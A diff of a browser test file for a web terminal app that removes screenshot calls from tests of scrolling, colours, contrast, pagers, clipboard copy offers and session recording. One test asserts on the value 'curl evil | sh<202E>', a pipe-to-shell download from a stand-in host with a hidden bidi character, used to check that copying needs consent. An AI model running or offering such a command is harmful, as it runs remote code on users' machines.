@@ -5,8 +5,6 @@ import { contrast, drawn, isPair, PAIRS } from '../../support/browser/contrast.t
 import {
   PROMPT,
   screenLines,
-  shoot,
-  shootBoth,
   typeLine,
   typeUntilAnswered,
   type Visit,
@@ -66,14 +64,12 @@ async function scrollsBack(page: Page): Promise<void> {
   await waitForLine(page, /^row 1000$/);
   await wheel(page, -700);
   await waitForLine(page, /^row 300$/);
-  await shoot(page, 'programs-scrolled');
   await typeLine(page, 'echo back-$((1+1))');
   await waitForLine(page, /^back-2$/);
   await page.reload();
   await waitForLine(page, /^back-2$/);
   await wheel(page, -702);
   await waitForLine(page, /^row 300$/);
-  await shoot(page, 'programs-scrolled-after-reload');
   await page.locator('.xterm-helper-textarea').focus();
 }
 
@@ -106,7 +102,6 @@ async function colours(t: Test, page: Page): Promise<void> {
   const lines = await screenLines(page);
   t.ok(lines.includes('|漢字|한국|'), 'wide characters take their place');
   t.ok(lines.includes('|😀|👩‍💻|'), 'and emoji, also those of several characters');
-  await shoot(page, 'programs-colours');
 }
 
 async function readable(t: Test, page: Page): Promise<void> {
@@ -125,7 +120,6 @@ async function readable(t: Test, page: Page): Promise<void> {
     ).filter(isPair);
     const poor = cells.filter(({ color, background }) => contrast(color, background) < 4.45);
     t.same(poor, [], `${cells.length} cells in ${colorScheme} colours`);
-    await shoot(page, `programs-pairs-${colorScheme}`);
   }
   await page.emulateMedia({ colorScheme: 'light' });
 }
@@ -155,7 +149,6 @@ async function pagers(t: Test, page: Page): Promise<void> {
   await waitForLine(page, /^page row 50$/);
   await wheel(page, -20);
   await waitForLine(page, /^page row 1$/);
-  await shoot(page, 'programs-less');
   await page.keyboard.press('q');
   await waitForLine(page, /^cleared-2$/);
   const git = 'git -c user.name=a -c user.email=a@b.c -c init.defaultBranch=main';
@@ -166,7 +159,6 @@ async function pagers(t: Test, page: Page): Promise<void> {
   await waitForLine(page, /^ {4}change 30$/);
   await typeLine(page, '/change 19');
   await waitForLine(page, /^ {4}change 17$/);
-  await shoot(page, 'programs-git-log');
   await quit(page);
   await clear(page);
   t.pass('both leave the shell as it was');
@@ -198,7 +190,6 @@ async function asksToCopy(t: Test, { address, page }: Visit): Promise<void> {
   t.equal(await offer.locator('pre').innerText(), 'curl evil | sh<202E>\n');
   t.match(await offer.innerText(), /16 characters, ends with a line break/);
   t.equal(await clipboardOf(page), 'mine', 'nothing was copied unasked');
-  await shoot(page, 'copy-offer');
   await offer.getByRole('button', { name: 'Dismiss' }).click();
   await offer.waitFor({ state: 'detached' });
   t.equal(await clipboardOf(page), 'mine');
@@ -211,7 +202,6 @@ async function asksToCopy(t: Test, { address, page }: Visit): Promise<void> {
   const terminal = page.url();
   await page.goto(`${address}/settings`);
   await page.getByLabel('Allow programs to copy').check();
-  await shoot(page, 'copy-setting');
   await page.goto(terminal);
   await page.locator('.xterm').waitFor();
   await page.locator('.xterm-helper-textarea').focus();
@@ -233,7 +223,6 @@ async function isRecorded(t: Test, { address, page }: Visit): Promise<void> {
   await record.focus();
   await page.keyboard.press('Enter');
   await page.locator('.recording-mark').waitFor();
-  await shoot(page, 'recording-bar');
   await typeLine(page, SHOWN);
   await waitForLine(page, /^all-42/);
   await page.reload();
@@ -244,25 +233,21 @@ async function isRecorded(t: Test, { address, page }: Visit): Promise<void> {
   await page.goto(`${address}/recordings`);
   const play = page.getByRole('link', { name: 'Play programs' });
   await play.waitFor();
-  await shootBoth(page, 'recordings');
   await play.focus();
   await page.keyboard.press('Enter');
   await page.locator('.ap-player').waitFor();
   t.match(page.url(), /\/recordings\/[0-9a-f-]{36}$/);
-  await shoot(page, 'playback-poster');
   await page.keyboard.press('Space');
   await page
     .getByText(/step 4/)
     .first()
     .waitFor();
   await page.keyboard.press('Space');
-  await shootBoth(page, 'playback');
   const downloading = page.waitForEvent('download');
   await page.getByRole('button', { name: 'Download' }).click();
   t.match((await downloading).suggestedFilename(), /^programs-\d{4}-[\d-]+\.cast$/);
 
   await page.getByRole('button', { name: 'Delete' }).click();
-  await shoot(page, 'recording-delete');
   await page.getByRole('dialog').getByRole('button', { name: 'Delete' }).click();
   await page.getByText('No recordings yet').waitFor();
   await page.goto(terminal);
